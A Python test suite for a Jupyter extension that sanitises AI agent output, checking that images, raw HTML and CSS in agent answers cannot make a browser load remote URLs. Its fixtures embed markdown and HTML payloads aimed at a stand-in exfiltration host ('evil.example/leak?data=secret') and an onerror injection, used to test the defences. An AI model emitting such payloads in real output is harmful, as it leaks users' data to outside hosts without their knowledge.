"""Agent output rendered for the ChatWidget and exported notebooks: nothing in it may make
the browser fetch a URL before the user clicks (a remote image would leak data at once)."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from agenstra_jupyter.render import (
    inert_markdown,
    markdown_html,
    response_html,
    response_markdown,
    result_html,
    sanitize,
)
from agenstra_jupyter.sessions import export_conversation

REMOTE = "https://evil.example/leak?data=secret"
PNG = "data:image/png;base64,iVBORw0KGgo="
LINK_TAGS = {"a", "area"}


class Elements(HTMLParser):
    """Every start tag of some HTML, with its attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def fetched(markup: str) -> list[str]:
    """What the browser would load from `markup` by itself: every URL-ish attribute value
    but a link's href, and any CSS at all."""
    loads = []
    for tag, attrs in Elements(markup).tags:
        for name, value in attrs.items():
            if name in ("src", "srcset", "poster", "background", "data", "style") or (
                    name == "href" and tag not in LINK_TAGS):
                loads.append(f"{tag}[{name}]={value}")
        if tag in ("iframe", "object", "embed", "link", "video", "audio", "source", "picture",
                   "svg", "image", "style", "input"):
            loads.append(tag)
    return loads


# -- the ChatWidget and exported HTML -------------------------------------------------------


@pytest.mark.parametrize("src", [REMOTE, "http://127.0.0.1:9/x.png", "//evil.example/x.png",
                                 "files/secret.png", "/api/contents", "blob:https://e.example/1"])
def test_a_remote_image_becomes_its_alt_text_and_a_link(src):
    out = markdown_html(f"See ![a chart]({src}) here")
    assert "<img" not in out and fetched(out) == []
    (link,) = [attrs for tag, attrs in Elements(out).tags if tag == "a"]
    assert link.get("href") == (None if src.startswith("blob:") else src)  # nh3: no blob: links
    assert link["rel"] == "noopener noreferrer nofollow"
    assert "[image: a chart]" in out
    assert f">{src}</a>" in out


def test_the_chat_widget_bubble_shows_the_placeholder():
    from agenstra_jupyter.widgets import bubble_html

    out = bubble_html({"from": "agent", "response": {"type": "text",
                                                     "result": f"![leak]({REMOTE})"}})
    assert "<img" not in out and "[image: leak]" in out and f'href="{REMOTE}"' in out


def test_reference_images_and_titles_are_links_too():
    out = markdown_html(f'![ref][r] and ![t]({REMOTE} "a title")\n\n[r]: //evil.example/r.png')
    assert "<img" not in out and fetched(out) == []
    assert "[image: ref]" in out and "[image: t]" in out


def test_data_images_are_shown_and_attachment_images_kept():
    out = markdown_html(f"![inline]({PNG}) ![attached](attachment:plot.png)")
    images = [attrs for tag, attrs in Elements(out).tags if tag == "img"]
    assert [i["src"] for i in images] == [PNG, "attachment:plot.png"]
    assert [i["alt"] for i in images] == ["inline", "attached"]


def test_a_data_url_is_for_images_only():
    out = sanitize('<a href="data:text/html,&lt;script&gt;x&lt;/script&gt;">x</a>'
                   '<img src="data:image/png;base64,AA" alt="data: a chart">'
                   '<a href="https://ok.example/">ok</a><q cite="attachment:x">q</q>')
    assert 'href="data:' not in out and "cite=" not in out
    assert 'alt="data: a chart"' in out
    assert 'src="data:image/png;base64,AA"' in out
    assert 'href="https://ok.example/"' in out


def test_alt_text_and_url_are_escaped():
    out = markdown_html('![<b>bold</b> "q"](https://e.example/a"b<c>)')
    assert "<b>" not in out and fetched(out) == []


def test_raw_html_in_markdown_is_text():
    payload = (f'<img src="{REMOTE}"> <picture><source srcset="{REMOTE}"></picture>'
               f' <video poster="{REMOTE}"></video> <audio src="{REMOTE}"></audio>'
               f' <div style="background:url({REMOTE})">x</div> <link href="{REMOTE}">'
               f' <iframe src="{REMOTE}"></iframe> <object data="{REMOTE}"></object>'
               f' <embed src="{REMOTE}"> <table background="{REMOTE}"></table>')
    out = markdown_html(payload)
    assert fetched(out) == []
    assert "&lt;img" in out  # shown, not interpreted


@pytest.mark.parametrize("markup", [
    f'<img src="{REMOTE}" alt="x">',
    f'<img src="{PNG}" srcset="{REMOTE} 2x">',
    f'<picture><source srcset="{REMOTE}"><img src="{PNG}"></picture>',
    f'<video poster="{REMOTE}" src="{REMOTE}"><track src="{REMOTE}"></video>',
    f'<audio src="{REMOTE}"></audio>',
    f'<input type="image" src="{REMOTE}">',
    f'<div style="background-image: url({REMOTE})">x</div>',
    f'<span style="list-style-image: url({REMOTE})">x</span>',
    f'<table background="{REMOTE}"><tr><td background="{REMOTE}">x</td></tr></table>',
    f'<link rel="stylesheet" href="{REMOTE}">',
    f'<iframe src="{REMOTE}"></iframe>',
    f'<object data="{REMOTE}"></object>',
    f'<embed src="{REMOTE}">',
    f'<svg><image href="{REMOTE}"/></svg>',
    f'<style>@import "{REMOTE}";</style>',
    f'<img src="\u00a0{PNG}">',  # not a data URL to a browser: a relative one
])
def test_the_sanitizer_drops_whatever_loads_by_itself(markup):
    """markdown_html never hands raw HTML to nh3; if it ever did, nh3 still stops it."""
    out = sanitize(markup)
    assert [load for load in fetched(out) if not load.endswith(f"={PNG}")] == []


# -- markdown that some other program renders later (exported notebooks) ---------------------


def test_inert_markdown_turns_images_into_links():
    assert inert_markdown(f"a ![chart]({REMOTE}) b") == f"a [image: chart]({REMOTE}) b"
    assert inert_markdown("![ref][r]\n\n[r]: //e.example/r.png") == (
        "[image: ref][r]\n\n[r]: //e.example/r.png")
    assert inert_markdown("![shortcut]") == "[image: shortcut]"
    assert inert_markdown("![rel](files/x.png)") == "[image: rel](files/x.png)"


def test_inert_markdown_keeps_data_and_attachment_images():
    text = f"![inline]({PNG}) ![attached]( attachment:plot.png)"
    assert inert_markdown(text) == text


@pytest.mark.parametrize("text", [
    f"![a [nested] alt]({REMOTE})",  # alt text with brackets
    f"![a\\](data:image/png;base64,AA)]({REMOTE})",  # an escaped bracket hiding the real URL
    f"![multi\nline]({REMOTE})",
    f"![a](\u00a0{PNG})",  # U+00A0 first: a relative URL, not data
    f"![a](<{PNG}>)",
])
def test_inert_markdown_leaves_no_image_it_cannot_read(text):
    out = inert_markdown(text)
    assert "![" not in out
    assert markdown_like_images(out) == []


def test_inert_markdown_makes_raw_html_text():
    text = (f'<img src="{REMOTE}"> <video poster="{REMOTE}"></video>'
            f' <div style="background:url({REMOTE})">x</div> <!-- c --> <?pi?> </div>'
            " a < b, x<y")
    out = inert_markdown(text)
    assert re.search(r"<[A-Za-z/!?]", out) is None
    assert out.replace("\u2060", "") == text  # the same text to read


def test_inert_markdown_output_renders_to_nothing_that_loads():
    """Rendered as JupyterLab would render it: markdown with raw HTML allowed."""
    from markdown_it import MarkdownIt

    text = (f"![x]({REMOTE})\n\n<img src='{REMOTE}'>\n\n```html\n<img src=\"{REMOTE}\">\n```\n"
            f"\n<div>\n\n![y]({REMOTE})\n\n</div>\n\n![ok]({PNG})")
    rendered = MarkdownIt("commonmark", {"html": True}).render(inert_markdown(text))
    loads = fetched(rendered)
    assert loads == [f"img[src]={PNG}"]


def markdown_like_images(text: str) -> list[str]:
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True}).render(text)
    return [attrs.get("src", "") for tag, attrs in Elements(rendered).tags if tag == "img"]


def test_export_writes_inert_markdown_and_safe_html(jupyter_server, tmp_path):
    client = jupyter_server.client()
    try:
        client.create_agent("r-echo", provider="echo")
        answer = client.agent("r-echo").chat(f"look ![leak]({REMOTE}) <img src='{REMOTE}'>")
        export_conversation(client, "r-echo", tmp_path / "r.ipynb", tmp_path / "r.jsonl")
    finally:
        client.close()
    assert REMOTE in answer
    data = nbformat.read(tmp_path / "r.ipynb", as_version=4).cells[2].outputs[0]["data"]
    assert data["text/markdown"].startswith(f"Echo: look [image: leak]({REMOTE})")
    assert re.search(r"<[A-Za-z]", data["text/markdown"]) is None
    assert fetched(data["text/html"]) == []
    assert "[image: leak]" in data["text/html"]


def test_magic_answers_give_notebooks_inert_markdown():
    from agenstra_jupyter.magics import AgentAnswer

    answer = AgentAnswer(f"see ![chart]({REMOTE}) and <img src='{REMOTE}'>")
    markdown = answer._repr_markdown_()
    assert "![" not in markdown and re.search(r"<[A-Za-z]", markdown) is None
    assert f"[image: chart]({REMOTE})" in markdown
    assert str(answer).startswith("see ![chart]")  # the value itself is the agent's text


# -- command output (`format: "text"`) ---------------------------------------------------------

# The one inline style of command output; it loads nothing.
_PRE_STYLE = ("margin:0;white-space:pre;overflow-x:auto;"
              "font-family:var(--jp-code-font-family, monospace)")
LISTING = "total 4\ndrwxr-xr-x  2 root root 4096 bin\n-rw-r--r--  1 root root   12 **not bold**\n"


def test_text_output_keeps_its_lines_and_is_never_markdown():
    out = response_html({"type": "text", "result": LISTING + "[exit code 0]", "format": "text"})
    assert out.startswith("<pre ") and "white-space:pre;" in out
    assert "total 4\ndrwxr-xr-x" in out and "**not bold**" in out and "<strong>" not in out
    assert "<p>" not in out
    hostile = result_html("<img src=x onerror=1> ![i](https://e.example/x)", "text")
    assert "<img" not in hostile and fetched(hostile) == [f"pre[style]={_PRE_STYLE}"]
    # Without a format (agents' answers, older managers) it is markdown.
    assert response_html({"type": "text", "result": "**bold**"}) == "<p><strong>bold</strong></p>\n"
    assert response_html({"type": "error", "result": "a <b>"}).count("&lt;b&gt;") == 1


@pytest.mark.parametrize("text", [LISTING, "a ``` b\n```\n<img src=x>\n", "````\n", "no end"])
def test_text_output_as_markdown_is_one_code_block(text):
    from markdown_it import MarkdownIt

    markdown = response_markdown({"type": "text", "result": text, "format": "text"})
    tokens = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    assert [t.type for t in tokens] == ["fence"]
    assert tokens[0].content.removesuffix("\n") == text.removesuffix("\n")  # line for line
    assert response_markdown({"type": "text", "result": "**b**"}) == "**b**"


OPTION_LABELS = json.loads(
    (Path(__file__).parent / "fixtures" / "option_labels.json").read_text())


@pytest.mark.parametrize("case", OPTION_LABELS, ids=lambda c: f"{c['name']!r}/{c['kind']}")
def test_option_buttons_show_an_agents_name_only_when_it_agrees_with_the_kind(case):
    """The cases the sidebar's optionLabel passes too (the same fixture)."""
    from agenstra_jupyter.render import KIND_LABELS, option_label, option_title

    option = {"optionId": "o", "name": case["name"], "kind": case["kind"]}
    assert option_label(option) == case["label"]
    own = KIND_LABELS[case["kind"]]
    title = option_title(option)
    assert title.startswith(own)  # the tooltip always says what the option does
    if case["name"] and case["name"].lower() != own.lower():
        assert title == f'{own} (the agent calls it "{case["name"]}")'


def test_the_option_label_fixture_covers_every_kind_and_both_outcomes():
    kinds = {c["kind"] for c in OPTION_LABELS}
    assert kinds == {"allow_once", "allow_always", "reject_once", "reject_always"}
    shown = [c for c in OPTION_LABELS if c["label"] == c["name"]]
    assert shown and len(shown) < len(OPTION_LABELS)
